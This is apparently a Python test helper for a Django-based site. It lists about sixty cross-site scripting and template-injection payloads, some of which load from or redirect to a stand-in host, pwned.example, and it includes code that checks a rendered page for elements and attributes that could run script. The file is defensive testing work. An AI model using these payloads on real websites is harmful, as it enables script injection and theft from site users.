"""What people who mean harm write into a field, and how a page that fell for it would look.

Every payload that could become an element or an attribute says PWNED in it, so that nothing has to be guessed.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterable
    from xml.etree.ElementTree import Element

PAYLOADS = [
    "<script>PWNED()</script>",
    "<ScRiPt>PWNED()</sCrIpT>",
    "<script src=//pwned.example></script>",
    "</script><script>PWNED()</script>",
    "<scr<script>ipt>PWNED()</script>",
    "<<script>PWNED();//<</script>",
    '"><script>PWNED()</script>',
    "'><script>PWNED()</script>",
    "--><script>PWNED()</script>",
    "]]><script>PWNED()</script>",
    "</title><script>PWNED()</script>",
    "</textarea><script>PWNED()</script>",
    "</style><script>PWNED()</script>",
    "</noscript><img src=x onerror=PWNED()>",
    "<img src=x onerror=PWNED()>",
    '"><img src=x onerror="PWNED()">',
    "<img/src/onerror=PWNED()>",
    "<image href=x onerror=PWNED()>",
    "<svg onload=PWNED()>",
    "<svg/onload=PWNED()//",
    "<svg><script>PWNED()</script></svg>",
    "<svg><a xlink:href=javascript:PWNED()><text>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,PWNED></svg>",
    "<svg><animate onbegin=PWNED() attributeName=x></svg>",
    "<math><mtext><img src onerror=PWNED()></math>",
    "<body onload=PWNED()>",
    "<input autofocus onfocus=PWNED()>",
    "<details open ontoggle=PWNED()>",
    "<video><source onerror=PWNED()></video>",
    "<iframe src=javascript:PWNED()></iframe>",
    "<iframe srcdoc='<script>PWNED()</script>'>",
    "<object data=javascript:PWNED()>",
    "<embed src=javascript:PWNED()>",
    "<base href=//pwned.example>",
    "<meta http-equiv=refresh content=0;url=//pwned.example>",
    "<link rel=stylesheet href=//pwned.example>",
    "<style>@import '//pwned.example';</style>",
    "<form action=//pwned.example><input name=PWNED>",
    "<a href=javascript:PWNED()>x</a>",
    "<a href=&#106;avascript:PWNED()>x</a>",
    '" onmouseover="PWNED()',
    "' onmouseover='PWNED()",
    "` onmouseover=`PWNED()",
    '" autofocus onfocus="PWNED()" x="',
    'x" hx-get="//pwned.example" hx-trigger="load',
    '<b hx-on:click="PWNED()" data-pwned>x</b>',
    "<template><script>PWNED()</script></template>",
    "<x onclick=PWNED()>x</x>",
    "javascript:PWNED()",
    "JaVaScRiPt:PWNED()",
    " javascript:PWNED()",
    "data:text/html,<script>PWNED()</script>",
    "[x](javascript:PWNED())",
    "[x](data:text/html;base64,UFdORUQ=)",
    "![x](javascript:PWNED())",
    "<javascript:PWNED()>",
    '[x](https://example.org "onerror=PWNED()")',
    '[x](https://example.org/"onmouseover="PWNED())',
    "{{ pwned }}{% load pwned %}",
    "${PWNED()} #{PWNED()} <%= PWNED() %>",
    "%(pwned)s %s %d {0} {pwned}",
    "&lt;script&gt;PWNED()&lt;/script&gt;",
    "&#60;script&#62;PWNED()&#60;/script&#62;",
    "\\u003cscript\\u003ePWNED()\\x3c/script\\x3e",
    "+ADw-script+AD4-PWNED()+ADw-/script+AD4-",
    "<!--<script>PWNED()</script>-->",
]

SCHEMES = ("http:", "https:", "mailto:")
ADDRESSES = {"href", "src", "action", "formaction", "data", "poster", "cite", "background", "srcset", "srcdoc", "ping"}
STRANGE = {
    "iframe", "frame", "object", "embed", "applet", "base", "style", "math", "video", "audio", "image",
    "foreignobject", "animate", "set",
}  # fmt: skip


def hostile(tree: Element) -> list[str]:
    """What in a page could run, load or lead astray; empty for a page that took every payload as words."""
    found = []
    for element in tree.iter():
        tag = str(element.tag).rpartition("}")[2].lower()
        if tag in STRANGE or (tag == "script" and not _own_script(element)):
            found.append(f"<{tag}>")
        if tag == "meta" and element.get("http-equiv"):
            found.append("<meta http-equiv>")
        found += [f"<{tag} {name}={value!r}>" for name, value in _bad_attributes(element.attrib.items())]
    return found


def _own_script(element: Element) -> bool:
    """A file of the site and nothing beside it. Django's administration keeps data in scripts of type JSON."""
    words = "".join(element.itertext()).strip()
    if element.get("type") == "application/json":
        return True
    return element.get("src", "").startswith(("/static/", "/admin/jsi18n/")) and not words


def _bad_attributes(attributes: Iterable[tuple[str, str]]) -> list[tuple[str, str]]:
    return [(name, value) for name, value in attributes if _runs(name.lower()) or _leads_astray(name, value)]


def _runs(name: str) -> bool:
    plain = name.rpartition("}")[2].rpartition(":")[2]
    return plain.startswith("on") or plain == "style" or "hx-on" in name or "pwned" in name


def _leads_astray(name: str, value: str) -> bool:
    plain = name.rpartition("}")[2].rpartition(":")[2].lower()
    return (plain in ADDRESSES and not _harmless(value)) or (name.startswith("hx-") and "pwned.example" in value)


def _harmless(address: str) -> bool:
    """A path of this site, or a page of another one that a reader may choose to open."""
    plain = "".join(address.split()).lower()
    if plain.startswith("//"):
        return False
    scheme, colon, _rest = plain.partition(":")
    return not colon or any(char in scheme for char in "/?#") or plain.startswith(SCHEMES)
